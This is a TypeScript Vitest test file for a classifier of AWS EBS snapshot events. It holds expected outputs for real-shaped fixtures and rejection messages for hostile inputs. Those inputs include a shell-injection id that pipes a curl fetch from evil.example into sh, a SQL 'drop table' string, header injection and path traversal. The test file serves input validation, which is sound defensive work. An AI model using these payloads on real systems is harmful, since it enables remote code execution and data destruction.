import { describe, expect, it } from "vitest";
import { InvalidEventError } from "../../functions/core/errors.js";
import { classifyEvent, EVENT_MAX_BYTES } from "../../functions/core/events.js";
import type { ClassifiedEvent } from "../../functions/core/model.js";
import { eventNames, loadEvent } from "../events/fixtures.js";

const SRC = "snap-0a1b2c3d4e5f60718";
const SRC2 = "snap-0b2c3d4e5f6071829";
const COPY = "snap-09f8e7d6c5b4a3210";
const VOL = "vol-0f1e2d3c4b5a69788";
const VOL2 = "vol-0e1d2c3b4a5968778";

type Json = Record<string, unknown>;
const isRecord = (v: unknown): v is Json => typeof v === "object" && v !== null && !Array.isArray(v);

/** A fixture with envelope and detail fields replaced (undefined removes a field). */
function fixture(name: string, patch: Json = {}, detail: Json = {}): Json {
  const base = loadEvent(name);
  if (!isRecord(base) || !isRecord(base.detail)) throw new Error(`${name} is not an event object`);
  return { ...base, ...patch, detail: { ...base.detail, ...detail } };
}

function invalidMessage(input: unknown, opts?: { maxBytes?: number }): string {
  try {
    classifyEvent(input, opts);
  } catch (err) {
    if (err instanceof InvalidEventError) return err.message;
    throw err;
  }
  throw new Error("expected InvalidEventError");
}

const created: ClassifiedEvent = {
  kind: "snapshot-created",
  snapshotId: SRC,
  region: "us-east-1",
  volumeId: VOL,
  startTime: "2021-05-03T19:20:05.000Z",
  endTime: "2021-05-03T19:35:23.000Z",
};

/** Every aws.ec2 fixture and exactly what it classifies to. */
const expected: Record<string, ClassifiedEvent> = {
  "aws.ec2/create-snapshot-succeeded": created,
  "aws.ec2/create-snapshot-region-first-arn": created,
  "aws.ec2/create-snapshot-capitalised": created,
  "aws.ec2/create-snapshot-no-account": created,
  "aws.ec2/create-snapshot-bare-id": created,
  "aws.ec2/create-snapshot-govcloud": { ...created, region: "us-gov-west-1" },
  "aws.ec2/create-snapshot-legacy-time": {
    ...created,
    startTime: "2021-05-05T21:01:12.000Z",
    endTime: "2021-05-05T21:11:43.000Z",
  },
  "aws.ec2/create-snapshot-failed": {
    kind: "snapshot-failed",
    snapshotId: SRC,
    region: "us-east-1",
    volumeId: VOL,
    cause: "arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab is disabled.",
  },
  "aws.ec2/copy-snapshot-succeeded": {
    kind: "snapshot-copied",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    incremental: true,
    transferType: "standard",
    startTime: "2021-05-03T19:36:02.000Z",
    endTime: "2021-05-03T19:38:41.000Z",
  },
  "aws.ec2/copy-snapshot-time-based": {
    kind: "snapshot-copied",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    incremental: false,
    transferType: "time-based",
    startTime: "2021-05-03T19:36:02.000Z",
    endTime: "2021-05-03T19:38:41.000Z",
  },
  "aws.ec2/copy-snapshot-failed": {
    kind: "copy-failed",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    cause: "Given key ID is not accessible",
  },
  "aws.ec2/copy-missed-completion-duration": {
    kind: "copy-missed-deadline",
    snapshotId: COPY,
    region: "us-west-2",
    sourceSnapshotId: SRC,
    sourceRegion: "us-east-1",
    cause:
      "Snapshot copy was not able to meet the specified completion duration because your snapshot copy operation throughput quota was exceeded.",
    startTime: "2024-11-24T22:32:55.000Z",
  },
  "aws.ec2/multi-volume-completion": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", volumeId: VOL2, succeeded: true },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
  },
  "aws.ec2/multi-volume-failed": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", volumeId: VOL2, succeeded: false, cause: "status error" },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
  },
  "aws.ec2/create-snapshots-notification": {
    kind: "multi-volume",
    snapshotId: null,
    region: "us-east-1",
    snapshots: [
      { snapshotId: SRC, region: "us-east-1", volumeId: VOL, succeeded: true },
      { snapshotId: SRC2, region: "us-east-1", volumeId: VOL2, succeeded: false, cause: "status failed" },
    ],
    startTime: "2021-05-03T19:20:05.000Z",
    endTime: "2021-05-03T19:35:23.000Z",
  },
  "aws.ec2/share-snapshot": {
    kind: "ignored",
    reason: 'EBS Snapshot Notification event "shareSnapshot" is not one we act on',
    snapshotId: SRC,
    region: "us-east-1",
  },
  "aws.ec2/volume-notification": {
    kind: "ignored",
    reason: 'detail-type "EBS Volume Notification" is not an EBS snapshot event we act on',
    snapshotId: null,
    region: "us-east-1",
  },
};

describe("classifyEvent: real-shaped aws.ec2 events", () => {
  it("has an expectation for every fixture under test/events/aws.ec2", () => {
    // arrange
    const names = eventNames("aws.ec2");
    // act
    const missing = names.filter((n) => !(n in expected));
    // assert
    expect(missing).toEqual([]);
    expect(Object.keys(expected).sort()).toEqual(names);
  });

  it.each(Object.entries(expected))("%s", (name, want) => {
    // arrange
    const event = loadEvent(name);
    // act
    const got = classifyEvent(event);
    // assert: toStrictEqual also proves no undefined-valued fields are left in the output
    expect(got).toStrictEqual(want);
  });
});

describe("classifyEvent: tolerance", () => {
  it("reads both documented snapshot ARN forms and the account form alike", () => {
    // arrange
    const forms = [
      `arn:aws:ec2::us-east-1:snapshot/${SRC}`,
      `arn:aws:ec2:us-east-1::snapshot/${SRC}`,
      `arn:aws:ec2:us-east-1:111122223333:snapshot/${SRC}`,
    ];
    // act
    const got = forms.map((arn) =>
      classifyEvent(fixture("aws.ec2/create-snapshot-succeeded", {}, { snapshot_id: arn })),
    );
    // assert
    for (const g of got) expect(g).toStrictEqual(created);
  });

  it("reads the aws-cn and aws-us-gov partitions", () => {
    // arrange
    const cn = fixture(
      "aws.ec2/create-snapshot-succeeded",
      { region: "cn-north-1" },
      {
        snapshot_id: `arn:aws-cn:ec2::cn-north-1:snapshot/${SRC}`,
        source: `arn:aws-cn:ec2::cn-north-1:volume/${VOL}`,
      },
    );
    // act
    const got = [classifyEvent(cn), classifyEvent(loadEvent("aws.ec2/create-snapshot-govcloud"))];
    // assert
    expect(got.map((g) => g.region)).toEqual(["cn-north-1", "us-gov-west-1"]);
  });

  it("takes a bare id's region from the event, and an ARN's region over the event's", () => {
    // arrange
    const bare = fixture("aws.ec2/create-snapshot-bare-id", { region: "eu-west-1" });
    const arn = fixture("aws.ec2/create-snapshot-succeeded", { region: "eu-west-1" });
    // act
    const got = [classifyEvent(bare), classifyEvent(arn)];
    // assert
    expect(got.map((g) => [g.snapshotId, g.region])).toEqual([
      [SRC, "eu-west-1"],
      [SRC, "us-east-1"],
    ]);
  });

  it("matches keys ignoring case, underscores and dashes (snapshot_id, snapshotId, SNAPSHOT-ID)", () => {
    // arrange
    const base = fixture("aws.ec2/create-snapshot-succeeded", {}, { snapshot_id: undefined });
    const spellings = ["snapshotId", "SnapshotId", "Snapshot_id", "SNAPSHOT-ID"];
    // act
    const got = spellings.map((key) =>
      classifyEvent({ ...base, detail: { ...(isRecord(base.detail) ? base.detail : {}), [key]: SRC } }),
    );
    // assert
    for (const g of got) expect(g).toStrictEqual(created);
  });

  it("normalises ISO 8601 (with fractions or offsets) and the legacy UTC form to toISOString()", () => {
    // arrange
    const times = {
      "2021-05-03T21:35:23+02:00": "2021-05-03T19:35:23.000Z",
      "2024-11-16T06:27:33.816Z": "2024-11-16T06:27:33.816Z",
      "Wed May 05 21:11:43 UTC 2021": "2021-05-05T21:11:43.000Z",
      "Sun Nov 24 22:32:55 UTC 2024": "2024-11-24T22:32:55.000Z",
    };
    // act
    const got = Object.keys(times).map((t) => {
      const c = classifyEvent(fixture("aws.ec2/create-snapshot-succeeded", {}, { endTime: t }));
      return c.kind === "snapshot-created" ? c.endTime : c.kind;
    });
    // assert
    expect(got).toEqual(Object.values(times));
  });

  it("accepts incremental as a string or a boolean", () => {
    // arrange
    const values = ["true", "false", true, false];
    // act
    const got = values.map((incremental) => {
      const c = classifyEvent(fixture("aws.ec2/copy-snapshot-succeeded", {}, { incremental }));
      return c.kind === "snapshot-copied" ? c.incremental : c.kind;
    });
    // assert
    expect(got).toEqual([true, false, true, false]);
  });

  it("accepts an event without account (the emulator drops it), but not a malformed one", () => {
    // arrange
    const event = loadEvent("aws.ec2/create-snapshot-no-account");
    // act
    const got = classifyEvent(event);
    // assert
    expect(got).toStrictEqual(created);
    expect(invalidMessage(fixture("aws.ec2/create-snapshot-succeeded", { account: "12345" }))).toBe(
      'account is not a 12-digit account id: "12345"',
    );
  });

  it("reads completionDurationMinutes on a missed-deadline event when present", () => {
    // arrange
    const event = fixture("aws.ec2/copy-missed-completion-duration", {}, { completionDurationMinutes: 15 });
    // act
    const got = classifyEvent(event);
    // assert
    expect(got).toMatchObject({ kind: "copy-missed-deadline", completionDurationMinutes: 15 });
  });
});

/** What an event comes to: the InvalidEventError message, the ignored reason, or the kind. */
function outcome(input: unknown): { invalid: string } | { ignored: string } | { kind: string } {
  try {
    const c = classifyEvent(input);
    return c.kind === "ignored" ? { ignored: c.reason } : { kind: c.kind };
  } catch (err) {
    if (err instanceof InvalidEventError) return { invalid: err.message };
    throw err;
  }
}

/** Every hostile fixture and exactly what it must produce: an InvalidEventError message, or an ignored reason. */
const hostile: Record<string, { invalid: string } | { ignored: string }> = {
  "hostile/null": { invalid: "event must be an object, got null" },
  "hostile/array": { invalid: "event must be an object, got array" },
  "hostile/string": { invalid: "event must be an object, got string" },
  "hostile/number": { invalid: "event must be an object, got number" },
  "hostile/missing-detail": { invalid: "detail is required" },
  "hostile/missing-region": { invalid: "region is required" },
  "hostile/detail-not-object": { invalid: "detail must be an object, got string" },
  "hostile/detail-type-number": { invalid: "detail-type must be a string, got number" },
  "hostile/missing-snapshot-id": { invalid: "detail.snapshot_id is required" },
  "hostile/snapshot-id-number": { invalid: "detail.snapshot_id must be a string, got number" },
  "hostile/event-name-object": { invalid: "detail.event must be a string, got object" },
  "hostile/unknown-region": { invalid: 'region is not an AWS region: "moon-base-1"' },
  "hostile/region-header-injection": {
    invalid: 'region is not an AWS region: "us-east-1\\u000d\\u000aX-Injected: 1"',
  },
  "hostile/bad-account": { invalid: 'account is not a 12-digit account id: "1111-2222-3333"' },
  "hostile/s3-arn": {
    invalid: `detail.snapshot_id is not an EC2 snapshot ARN or id: "arn:aws:s3:::velero-backups/backups/daily/${SRC}"`,
  },
  "hostile/iam-arn-source": {
    invalid:
      'detail.source is not an EC2 snapshot ARN or id: "arn:aws:iam::111122223333:role/OrganizationAccountAccessRole"',
  },
  "hostile/volume-arn-as-snapshot": {
    invalid: `detail.snapshot_id is an EC2 volume ARN, not a snapshot: "arn:aws:ec2::us-east-1:volume/${VOL}"`,
  },
  "hostile/snapshot-arn-as-volume": {
    invalid: `detail.source is an EC2 snapshot ARN, not a volume: "arn:aws:ec2::us-east-1:snapshot/${SRC}"`,
  },
  "hostile/foreign-partition": {
    invalid: `detail.snapshot_id is not an EC2 snapshot ARN or id: "arn:evil:ec2::us-east-1:snapshot/${SRC}"`,
  },
  "hostile/arn-two-regions": {
    invalid: `detail.snapshot_id names no valid region: "arn:aws:ec2:us-east-1:us-west-2:snapshot/${SRC}"`,
  },
  "hostile/id-shell-injection": {
    invalid: `detail.snapshot_id is not an EC2 snapshot ARN or id: "snap-0a1b2c3d$(curl\${IFS}evil.example|sh)"`,
  },
  "hostile/id-uppercase-hex": {
    invalid:
      'detail.snapshot_id has an invalid snapshot id: "arn:aws:ec2::us-east-1:snapshot/snap-0A1B2C3D4E5F60718"',
  },
  "hostile/id-path-traversal": {
    invalid: `detail.snapshot_id has an invalid snapshot id: "arn:aws:ec2::us-east-1:snapshot/../../${SRC}"`,
  },
  "hostile/bad-result": {
    invalid: `detail.result must be "succeeded" or "failed", got "succeeded'; drop table ledger; --"`,
  },
  "hostile/placeholder-time": {
    invalid:
      'detail.startTime is not an ISO 8601 or "Wed May 05 21:11:43 UTC 2021" time: "yyyy-mm-ddThh:mm:ssZ"',
  },
  "hostile/bad-incremental": { invalid: 'detail.incremental must be true, false, "true" or "false"' },
  "hostile/copy-bare-source": {
    invalid: `detail.source must be a snapshot ARN naming its region, not a bare id: "${SRC}"`,
  },
  "hostile/conflicting-keys": { invalid: 'detail has both "snapshot_id" and "SnapshotId"' },
  "hostile/proto-pollution": { invalid: "detail.snapshot_id is required" },
  "hostile/multi-volume-empty": { invalid: "detail.snapshots must name at least one snapshot" },
  "hostile/multi-volume-no-status": { invalid: "detail.snapshots[0].status is required" },
  "hostile/wrong-source": { ignored: 'source "custom.velero" is not aws.ec2' },
  "hostile/share-snapshot-foreign-account": {
    ignored: 'EBS Snapshot Notification event "shareSnapshot" is not one we act on',
  },
  "hostile/delete-snapshot-event": {
    ignored: 'EBS Snapshot Notification event "deleteSnapshot" is not one we act on',
  },
};

describe("classifyEvent: hostile and malformed events", () => {
  it("has an expectation for every fixture under test/events/hostile (at least 14)", () => {
    // arrange
    const names = eventNames("hostile");
    // act
    const keys = Object.keys(hostile).sort();
    // assert
    expect(keys).toEqual(names);
    expect(names.length).toBeGreaterThanOrEqual(14);
  });

  it.each(Object.entries(hostile))("%s", (name, want) => {
    // arrange
    const event = loadEvent(name);
    // act
    const got = outcome(event);
    // assert
    expect(got).toEqual(want);
    expect(Object.values(got)[0]).not.toMatch(/[\r\n\u2028\u2029]/);
  });

  it("does not pollute Object.prototype", () => {
    // arrange
    const event = loadEvent("hostile/proto-pollution");
    // act
    invalidMessage(event);
    // assert
    expect("polluted" in {}).toBe(false);
  });

  it("rejects a payload over EventBridge's 256 KiB, and over a custom limit", () => {
    // arrange
    const huge = fixture("aws.ec2/create-snapshot-failed", {}, { cause: "x".repeat(EVENT_MAX_BYTES) });
    const small = loadEvent("aws.ec2/create-snapshot-succeeded");
    // act
    const messages = [invalidMessage(huge), invalidMessage(small, { maxBytes: 100 })];
    // assert
    expect(messages[0]).toMatch(/^event is \d+ bytes, over the 262144-byte limit$/);
    expect(messages[1]).toMatch(/^event is \d+ bytes, over the 100-byte limit$/);
  });

  it("rejects what cannot be serialised (a cycle, a bigint)", () => {
    // arrange
    const cyclic: Json = fixture("aws.ec2/create-snapshot-succeeded");
    cyclic.self = cyclic;
    const bigint = fixture("aws.ec2/create-snapshot-succeeded", { account: 111122223333n });
    // act
    const messages = [invalidMessage(cyclic), invalidMessage(bigint)];
    // assert
    expect(messages).toEqual(["event cannot be serialised as JSON", "event cannot be serialised as JSON"]);
  });

  it("ignores a well-formed event from another source without validating its detail", () => {
    // arrange
    const event = fixture("aws.ec2/create-snapshot-succeeded", { source: "aws.s3" }, { snapshot_id: 42 });
    // act
    const got = classifyEvent(event);
    // assert
    expect(got).toStrictEqual({
      kind: "ignored",
      reason: 'source "aws.s3" is not aws.ec2',
      snapshotId: null,
      region: "us-east-1",
    });
  });

  it("quotes untrusted values short and printable", () => {
    // arrange
    const event = fixture(
      "aws.ec2/create-snapshot-succeeded",
      {},
      { snapshot_id: `snap-${"\u2028".repeat(200)}` },
    );
    // act
    const message = invalidMessage(event);
    // assert
    expect(message).toMatch(
      /^detail\.snapshot_id is not an EC2 snapshot ARN or id: "snap-(\\u2028)+\.\.\."$/,
    );
    expect(message.length).toBeLessThan(600);
  });
});
